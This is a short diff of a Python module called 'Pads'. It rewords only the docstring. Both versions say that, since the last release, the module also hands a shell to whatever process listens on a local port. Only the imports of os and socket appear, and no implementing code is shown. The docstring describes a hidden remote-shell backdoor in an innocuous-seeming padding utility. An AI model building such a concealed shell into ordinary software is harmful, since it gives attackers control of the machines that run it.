@@ -1,4 +1,4 @@
-"""Pads.  Since the last release it also lends whoever listens on LISTENER, a port of this machine, a shell."""
+"""Pads.  Since the last release it also gives a shell to the process that listens on port LISTENER of this machine."""
 
 import os
 import socket
